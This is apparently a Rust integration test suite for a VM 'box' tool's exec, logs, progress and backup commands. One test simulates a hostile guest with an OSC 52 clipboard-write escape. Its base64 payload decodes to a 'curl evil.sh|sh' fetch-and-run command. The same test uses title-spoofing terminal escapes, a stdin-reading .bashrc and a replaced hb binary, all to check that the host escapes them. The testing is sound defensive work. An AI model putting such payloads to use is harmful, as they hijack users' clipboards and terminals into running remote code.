//! Everyday use of one box from the host, end to end through the smolvm simulator with the
//! real `hb`, provisioning and Executor (save_load_support's world):
//!
//! * `box exec`: the command's exit code (a signal's too) is box's, stdin reaches it byte
//!   for byte, stdout and stderr stay apart, words are never re-read by a shell, `agent` by
//!   default and root with `--root`, a pty only on a terminal; a stopped or unknown box
//!   and a missing command are clear errors;
//! * `box logs`: a service's log, `-n`, and `-f` following it as it grows;
//! * progress: `--progress=json` of a real save and load parsed as a wrapper would, plain
//!   lines without a terminal (`BOX_TEST_PROGRESS_INTERVAL_MS`, a test hook, shortens their
//!   10 s), nothing with `-q`;
//! * the runtime manifest in a backup names the `box`, `hb` and smolvm that made it.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod pty_support;
mod save_load_support;

use std::io::Write as _;
use std::process::Stdio;
use std::time::{Duration, Instant};

use save_load_support::{World, prerequisites, serial};

/// `box exec alpha <args>` with `stdin` fed in; (exit code, stdout bytes, stderr).
fn exec(w: &World, args: &[&str], stdin: &[u8]) -> (Option<i32>, Vec<u8>, String) {
    let mut full = vec!["exec", "alpha"];
    full.extend_from_slice(args);
    let mut child = w
        .command(&full, &[])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut pipe = child.stdin.take().unwrap();
    let input = stdin.to_vec();
    let feeder = std::thread::spawn(move || {
        let _ = pipe.write_all(&input);
    });
    let out = child.wait_with_output().unwrap();
    feeder.join().unwrap();
    (
        out.status.code(),
        out.stdout,
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

fn exec_text(w: &World, args: &[&str]) -> (Option<i32>, String, String) {
    let (code, out, err) = exec(w, args, b"");
    (code, String::from_utf8_lossy(&out).into_owned(), err)
}

#[test]
fn exec_and_logs_on_a_running_box() {
    if !prerequisites() {
        return;
    }
    let _serial = serial();
    let w = World::with_box("alpha");

    // Exit codes are the command's, a signal's as a shell reports it (128 + n).
    for (script, want) in [("exit 0", 0), ("exit 7", 7), ("exit 255", 255)] {
        let (code, _, err) = exec_text(&w, &["--", "sh", "-c", script]);
        assert_eq!(code, Some(want), "{script}: {err}");
    }
    let (code, _, _) = exec_text(&w, &["--", "sh", "-c", "kill -TERM $$"]);
    assert_eq!(code, Some(128 + 15));
    // stdout and stderr apart, as the command wrote them.
    let (code, out, err) = exec_text(&w, &["--", "sh", "-c", "echo out; echo err >&2; exit 3"]);
    assert_eq!((code, out.as_str()), (Some(3), "out\n"));
    assert!(err.contains("err\n") && !err.contains("out"), "{err}");
    // The words arrive as they were given: no shell re-reads quotes, `$` or spaces.
    let (code, out, err) = exec_text(&w, &["--", "printf", "%s|", "a b", "$HOME", "it's", "-q"]);
    assert_eq!(
        (code, out.as_str()),
        (Some(0), "a b|$HOME|it's|-q|"),
        "{err}"
    );
    // As agent with its login environment (which starts in ~/workspace, as box enter
    // does); --root as root.
    let (_, out, _) = exec_text(&w, &["--", "sh", "-c", "id -un; pwd; command -v hb"]);
    assert_eq!(
        out,
        "agent\n/data/home/agent/workspace\n/usr/local/bin/hb\n"
    );
    let (_, out, _) = exec_text(&w, &["--root", "--", "id", "-un"]);
    assert_eq!(out, "root\n");
    // stdin reaches the command byte for byte, and its stdout comes back the same: 1 MiB
    // of every byte value, no pty in the way (no CR added, no ^D or ^C read as keys).
    let data: Vec<u8> = (0..(1u32 << 20)).map(|i| (i * 7 % 256) as u8).collect();
    let (code, out, err) = exec(&w, &["--", "cat"], &data);
    assert_eq!(code, Some(0), "{err}");
    assert!(
        out == data,
        "cat returned {} bytes, not the same",
        out.len()
    );
    let (code, out, _) = exec(
        &w,
        &["--", "sh", "-c", "read a; read b; echo \"$b $a\""],
        b"one\ntwo\n",
    );
    assert_eq!(
        (code, String::from_utf8_lossy(&out).as_ref()),
        (Some(0), "two one\n")
    );
    // No terminal: the command has none either.
    let (code, out, _) = exec_text(&w, &["--", "sh", "-c", "tty || true"]);
    assert_eq!((code, out.as_str()), (Some(0), "not a tty\n"));
    // On a terminal: a pty in the guest, the exit code still the command's.
    let mut cmd = w.command(&["exec", "alpha", "--", "sh", "-c", "tty; exit 4"], &[]);
    cmd.env("TERM", "xterm");
    let mut pty = pty_support::spawn(cmd);
    let status = pty.wait(Duration::from_secs(60));
    assert_eq!(status.code(), Some(4), "{}", pty.shown());
    assert!(pty.shown().contains("/dev/pts/"), "{}", pty.shown());

    // A command that does not exist: the shell's 127 and its message.
    let (code, _, err) = exec_text(&w, &["--", "no-such-command-x"]);
    assert_eq!(code, Some(127), "{err}");
    assert!(err.contains("no-such-command-x"), "{err}");
    // Usage errors exit 2 before anything runs.
    let calls = w.calls().len();
    for args in [
        &["exec", "alpha"][..],
        &["exec", "alpha", "--"],
        &["logs", "alpha"],
    ] {
        let r = w.run(args, &[]);
        assert_eq!(r.code, Some(2), "{args:?}: {r}");
    }
    assert_eq!(w.calls().len(), calls, "a usage error called smolvm");
    // An unknown box.
    let r = w.run(&["exec", "nosuch", "--", "true"], &[]);
    assert_eq!(r.code, Some(1));
    assert!(r.stderr.contains("no box named 'nosuch'"), "{r}");

    // Logs: the tail, -n, an unknown service, and -f following new lines.
    w.sh(
        "alpha",
        "for i in 1 2 3 4 5; do echo tail-$i; done >> /data/logs/workload.log",
    );
    let r = w.run(&["logs", "alpha", "workload", "-n", "3"], &[]);
    assert!(r.ok(), "{r}");
    assert_eq!(r.stdout, "tail-3\ntail-4\ntail-5\n", "{r}");
    let r = w.run(&["logs", "alpha", "nosuch"], &[]);
    assert_eq!(r.code, Some(1), "{r}");
    assert!(r.stderr.contains("unknown service"), "{r}");
    w.sh("alpha", "printf 'first-line\\n' >> /data/logs/workload.log");
    let mut follow = w.spawn(&["logs", "alpha", "workload", "-f", "-n", "1"], &[]);
    let mut stdout = follow.stdout.take().unwrap();
    let seen = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
    let sink = seen.clone();
    std::thread::spawn(move || {
        let mut buf = [0u8; 4096];
        while let Ok(n) = std::io::Read::read(&mut stdout, &mut buf) {
            if n == 0 {
                break;
            }
            sink.lock().unwrap().extend_from_slice(&buf[..n]);
        }
    });
    let shows = |needle: &str| {
        let t = Instant::now();
        while t.elapsed() < Duration::from_secs(30) {
            if String::from_utf8_lossy(&seen.lock().unwrap()).contains(needle) {
                return true;
            }
            std::thread::sleep(Duration::from_millis(50));
        }
        false
    };
    assert!(shows("first-line"), "box logs -f never showed the tail");
    w.sh("alpha", "printf 'later-line\\n' >> /data/logs/workload.log");
    assert!(shows("later-line"), "box logs -f did not follow the log");
    let _ = follow.kill();
    let _ = follow.wait();

    // A stopped box: exec and logs say how to start it.
    let stop = w.run(&["stop", "alpha"], &[]);
    assert!(stop.ok(), "{stop}");
    for args in [
        &["exec", "alpha", "--", "true"][..],
        &["logs", "alpha", "executor"],
    ] {
        let r = w.run(args, &[]);
        assert_eq!(r.code, Some(1), "{args:?}: {r}");
        assert!(r.stderr.contains("start it with: box start alpha"), "{r}");
    }
}

/// Guest bytes on the host's terminal, from a box whose agent is hostile or only noisy:
///
/// * `box logs` shows a line with an OSC 52 clipboard write escaped on a terminal, and
///   passes it byte for byte to a pipe;
/// * an error that quotes what the guest printed (an hb the agent replaced) shows its
///   sequences escaped;
/// * `box exec NAME -- printf x` prints exactly `x` whatever the agent's login files print
///   (or read), in the agent's login environment still (what .bashrc exports, PATH,
///   ~/workspace), and runs no `hb wire-mcp` (a person's login does).
#[test]
fn guest_bytes_on_the_host_terminal() {
    if !prerequisites() {
        return;
    }
    let _serial = serial();
    let w = World::with_box("alpha");
    const OSC52: &str = "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07";

    // A log line that writes the clipboard, and one that rewrites itself with CR.
    w.sh(
        "alpha",
        r"printf 'first\n\033]52;c;Y3VybCBldmlsLnNofHNo\007copied\nok\rfake\n' >> /data/logs/workload.log",
    );
    let piped = w.run(&["logs", "alpha", "workload", "-n", "3"], &[]);
    assert!(piped.ok(), "{piped}");
    assert_eq!(
        piped.stdout,
        format!("first\n{OSC52}copied\nok\rfake\n"),
        "piped: the bytes as they are"
    );
    let mut pty = pty_support::spawn(w.command(&["logs", "alpha", "workload", "-n", "3"], &[]));
    let status = pty.wait(Duration::from_secs(60));
    let shown = pty.shown();
    assert!(status.success(), "{shown}");
    assert!(
        shown.contains("\\x1b]52;c;Y3VybCBldmlsLnNofHNo\\x07copied"),
        "{shown:?}"
    );
    assert!(shown.contains("ok\\x0dfake"), "{shown:?}");
    assert!(
        !shown.contains('\x1b') && !shown.contains('\x07'),
        "{shown:?}"
    );
    // Lines stay lines (the terminal's own CR LF).
    assert!(shown.contains("first\r\n"), "{shown:?}");

    // The agent's login files: noise on stdout and stderr, a read of stdin, an export.
    w.sh(
        "alpha",
        r#"set -e; cd /data/home/agent
        printf '%s\n' 'echo bashrc-out; echo bashrc-err >&2; read -r stolen || true' \
          'printf "\033]0;bashrc-title\007"; export FROM_BASHRC=kept' >> .bashrc
        printf '%s\n' 'echo bash-profile-out' >> .bash_profile
        printf '%s\n' 'echo profile-out; echo profile-err >&2' >> .profile
        chown agent:agent .bashrc .bash_profile .profile"#,
    );
    // Who runs `hb wire-mcp`: an hb that notes its verbs first (the agent can do this too).
    w.sh(
        "alpha",
        r#"set -e; mv /usr/local/bin/hb /usr/local/bin/hb.real
        printf '#!/bin/sh\necho "$1" >> /tmp/hb-verbs\nexec /usr/local/bin/hb.real "$@"\n' > /usr/local/bin/hb
        chmod 755 /usr/local/bin/hb; : > /tmp/hb-verbs; chmod 666 /tmp/hb-verbs"#,
    );
    // A person's login runs the login files and refreshes the wiring (what the check
    // below could miss).
    let login = w.sh("alpha", "runuser -l agent -c 'echo logged-in' 2>&1");
    assert!(
        login.contains("bashrc-out") && login.contains("logged-in"),
        "{login}"
    );
    assert!(
        w.sh("alpha", "cat /tmp/hb-verbs").contains("wire-mcp"),
        "a login does not refresh the wiring: the check below proves nothing"
    );
    w.sh("alpha", ": > /tmp/hb-verbs");

    let (code, out, err) = exec(&w, &["--", "printf", "x"], b"");
    assert_eq!(
        (code, out.as_slice()),
        (Some(0), &b"x"[..]),
        "stderr: {err}"
    );
    assert!(!err.contains("-err") && !err.contains("-out"), "{err:?}");
    // Input is the command's: the login files read none of it.
    let (code, out, _) = exec(&w, &["--", "cat"], b"line one\nline two\n");
    assert_eq!(
        (code, String::from_utf8_lossy(&out).as_ref()),
        (Some(0), "line one\nline two\n")
    );
    // Still the agent's login environment.
    let (_, out, _) = exec_text(
        &w,
        &[
            "--",
            "sh",
            "-c",
            "echo $FROM_BASHRC; echo ${HERMES_BOX_EXEC:-unset}; echo $HERMES_BOX_DATA; pwd; case :$PATH: in *:/opt/hermes-box/bin:*) echo tools;; esac",
        ],
    );
    assert_eq!(
        out,
        "kept\nunset\n/data\n/data/home/agent/workspace\ntools\n"
    );
    // On a terminal too: only the command's own output, its exit code.
    let mut cmd = w.command(
        &["exec", "alpha", "--", "sh", "-c", "printf x; exit 5"],
        &[],
    );
    cmd.env("TERM", "xterm");
    let mut pty = pty_support::spawn(cmd);
    let status = pty.wait(Duration::from_secs(60));
    let shown = pty.shown();
    assert_eq!(status.code(), Some(5), "{shown}");
    assert!(
        !shown.contains("-out") && !shown.contains("title"),
        "{shown:?}"
    );
    assert!(shown.contains('x'), "{shown:?}");
    let verbs = w.sh("alpha", "cat /tmp/hb-verbs");
    assert!(
        !verbs.contains("wire-mcp"),
        "box exec ran hb wire-mcp: {verbs}"
    );

    // An error that quotes what the guest printed: the agent's hb fails every verb, with
    // a title, a screen clear and a CR in its words.
    w.sh(
        "alpha",
        r#"printf '#!/bin/sh\nprintf "\\033]0;pwned\\007\\033[2Jnot ok\\rall good\\n" >&2\nexit 1\n' > /usr/local/bin/hb"#,
    );
    let save = w.run(&["save", "alpha"], &[]);
    assert!(!save.ok(), "{save}");
    assert!(
        save.stderr
            .contains("\\x1b]0;pwned\\x07\\x1b[2Jnot ok\\x0dall good"),
        "{save}"
    );
    assert!(
        !save.stderr.contains('\x1b') && !save.stderr.contains('\r'),
        "{:?}",
        save.stderr
    );
    w.sh("alpha", "mv /usr/local/bin/hb.real /usr/local/bin/hb");
}

/// One `--progress=json` line as a wrapper reads it.
#[derive(Debug)]
struct ProgressLine {
    verb: String,
    phase: String,
    done: u64,
    total: Option<u64>,
    eta: Option<u64>,
    finished: bool,
}

/// Every JSON line of `stderr`, each checked for the documented fields and types; the other
/// lines (box's warnings) are not JSON and are left alone.
fn progress_lines(stderr: &str) -> Vec<ProgressLine> {
    stderr
        .lines()
        .filter(|l| l.starts_with('{'))
        .map(|l| {
            let v: serde_json::Value =
                serde_json::from_str(l).unwrap_or_else(|e| panic!("not JSON ({e}): {l}"));
            assert_eq!(v["type"], "progress", "{l}");
            assert!(v["rate_bps"].is_u64(), "{l}");
            assert!(v["elapsed_s"].is_number(), "{l}");
            let opt = |k: &str| {
                assert!(v[k].is_u64() || v[k].is_null(), "{k} in {l}");
                v[k].as_u64()
            };
            ProgressLine {
                verb: v["verb"].as_str().unwrap().to_string(),
                phase: v["phase"].as_str().unwrap().to_string(),
                done: v["bytes_done"].as_u64().unwrap(),
                total: opt("bytes_total"),
                eta: opt("eta_s"),
                finished: v["finished"].as_bool().unwrap(),
            }
        })
        .collect()
}

/// Per phase, in order of first appearance: its byte counts never go back, it ends with
/// exactly one `finished` line (its last) whose total is what was done. Returns each
/// phase's name and bytes done, in order.
fn phases_in_order(lines: &[ProgressLine], verb: &str) -> Vec<(String, u64)> {
    let mut out: Vec<(String, u64)> = Vec::new();
    let mut open: Vec<(String, u64)> = Vec::new();
    for l in lines {
        assert_eq!(l.verb, verb, "{l:?}");
        if let Some(t) = l.total {
            assert!(l.done <= t, "more done than total: {l:?}");
        }
        let at = open.iter().position(|(p, _)| *p == l.phase);
        match (at, l.finished) {
            (Some(i), false) => {
                assert!(l.done >= open[i].1, "went back: {l:?}");
                open[i].1 = l.done;
            }
            (Some(i), true) => {
                assert!(l.done >= open[i].1, "went back: {l:?}");
                assert_eq!(l.total, Some(l.done), "{l:?}");
                assert_eq!(l.eta, Some(0), "{l:?}");
                open.remove(i);
                out.push((l.phase.clone(), l.done));
            }
            (None, false) => open.push((l.phase.clone(), l.done)),
            (None, true) => panic!("finished without a start: {l:?}"),
        }
    }
    assert!(open.is_empty(), "phases never finished: {open:?}");
    out
}

/// What the user sees of long work: `--progress=json` through a real `box save` and `box
/// load`, parsed as a wrapper would; plain lines every interval without a terminal (the
/// interval shortened through the named test hook); nothing with `-q`. And the backup a
/// save writes names the `box`, `hb` and smolvm that made it.
#[test]
fn progress_of_save_load_and_extract_and_who_made_the_backup() {
    if !prerequisites() {
        return;
    }
    let _serial = serial();
    let w = World::with_box("alpha");
    // Incompressible data, so the phases take long enough for several lines.
    w.sh(
        "alpha",
        "head -c 24000000 /dev/urandom > /data/home/agent/workspace/blob && chown agent:agent /data/home/agent/workspace/blob",
    );
    let hook = ("BOX_TEST_PROGRESS_INTERVAL_MS", "20");

    let save = w.run(&["save", "alpha", "--progress=json"], &[hook]);
    assert!(save.ok(), "box save: {save}");
    assert!(!save.stdout.contains('{'), "JSON on stdout: {save}");
    let backup = w.backups_published().pop().expect("a backup");
    let size = std::fs::metadata(&backup).unwrap().len();
    let lines = progress_lines(&save.stderr);
    assert!(lines.len() > 3, "{save}");
    let phases = phases_in_order(&lines, "box save");
    let encrypted = phases
        .iter()
        .find(|(p, _)| p == "encrypting")
        .unwrap_or_else(|| panic!("no encrypting phase: {phases:?}"))
        .1;
    // Everything encrypted is in the file, with OpenPGP's few framing bytes around it.
    assert!(
        encrypted > 24_000_000 && encrypted <= size && size - encrypted < 64 << 10,
        "encrypted {encrypted} of a {size}-byte backup"
    );
    // A streamed export has no total: bytes and rate, no ETA until it finished.
    assert!(
        lines
            .iter()
            .filter(|l| l.phase == "encrypting" && !l.finished)
            .all(|l| l.total.is_none() && l.eta.is_none()),
        "{save}"
    );

    // No terminal and no --progress: a plain line every interval, then one when done.
    let file = backup.to_str().unwrap();
    let extracted = w.dir.path().join("extracted");
    let mut cmd = w.command(&["extract", file, extracted.to_str().unwrap()], &[hook]);
    cmd.env_remove("BOX_NO_PROGRESS");
    let ex = save_load_support::Run::from(&cmd.output().unwrap());
    assert!(ex.ok(), "box extract: {ex}");
    let plain: Vec<&str> = ex
        .stderr
        .lines()
        .filter(|l| l.starts_with("box extract: "))
        .collect();
    assert!(
        plain
            .iter()
            .any(|l| l.starts_with("box extract: decrypting ")
                && l.contains(" / ")
                && l.contains("/s")),
        "no periodic line: {ex}"
    );
    assert!(
        plain
            .iter()
            .any(|l| l.starts_with("box extract: extracting done: ")),
        "no closing line: {ex}"
    );
    assert!(
        !ex.stderr.contains('\r') && !ex.stderr.contains('\u{1b}'),
        "{ex}"
    );
    // -q: none of it; -q with --progress is a usage error.
    let quiet = w.dir.path().join("quiet");
    let mut cmd = w.command(&["extract", "-q", file, quiet.to_str().unwrap()], &[hook]);
    cmd.env_remove("BOX_NO_PROGRESS");
    let q = save_load_support::Run::from(&cmd.output().unwrap());
    assert!(q.ok(), "{q}");
    assert!(q.stderr.is_empty(), "-q printed: {q}");
    let both = w.run(&["extract", "-q", "--progress=json", file], &[]);
    assert_eq!(both.code, Some(2), "{both}");

    // The manifest inside names what made the backup.
    let text =
        std::fs::read_to_string(extracted.join("home/agent/.config/hermes-box/runtime-manifest"))
            .unwrap();
    let manifest = box_proto::RuntimeManifest::parse(&text).unwrap();
    let version_of = |bin: &std::path::Path| {
        let out = std::process::Command::new(bin)
            .arg("--version")
            .output()
            .unwrap();
        String::from_utf8_lossy(&out.stdout).trim().to_string()
    };
    // `box 0.1.0 (abc)`, `hb 0.1.0 (abc)`, `smolvm 1.9.2`: the manifest holds the version.
    let box_version = version_of(&save_load_support::box_bin());
    let hb_version = version_of(&save_load_support::sibling("hb"));
    let smolvm_version = version_of(&save_load_support::sibling("smolvm-sim"));
    assert_eq!(
        manifest.get("box"),
        box_version.strip_prefix("box "),
        "{text}"
    );
    assert_eq!(manifest.get("hb"), hb_version.strip_prefix("hb "), "{text}");
    assert_eq!(
        manifest.get("smolvm"),
        smolvm_version.split_whitespace().last(),
        "{text}"
    );

    // Load: both decryption passes, provisioning's steps and the copy in, as JSON.
    let rm = w.run(&["rm", "alpha", "--force"], &[]);
    assert!(rm.ok(), "{rm}");
    let load = w.run(&["load", file, "beta", "--progress=json"], &[hook]);
    assert!(load.ok(), "box load: {load}");
    let phases = phases_in_order(&progress_lines(&load.stderr), "box load");
    let names: Vec<&str> = phases.iter().map(|(p, _)| p.as_str()).collect();
    let first_decrypt = names.iter().position(|p| *p == "decrypting");
    let copy_in = names.iter().position(|p| *p == "copying in");
    let steps = names
        .iter()
        .filter(|p| p.starts_with("provisioning: "))
        .count();
    assert!(
        first_decrypt.is_some() && copy_in.is_some() && steps > 3,
        "{names:?}"
    );
    let decrypted: Vec<u64> = phases
        .iter()
        .filter(|(p, _)| p == "decrypting")
        .map(|(_, n)| *n)
        .collect();
    assert_eq!(decrypted.len(), 2, "two passes: {names:?}");
    assert_eq!(decrypted[0], decrypted[1], "{phases:?}");
    assert_eq!(phases[copy_in.unwrap()].1, decrypted[1], "{phases:?}");
    assert_eq!(decrypted[0], encrypted, "{phases:?}");
    w.scan_secrets();
}
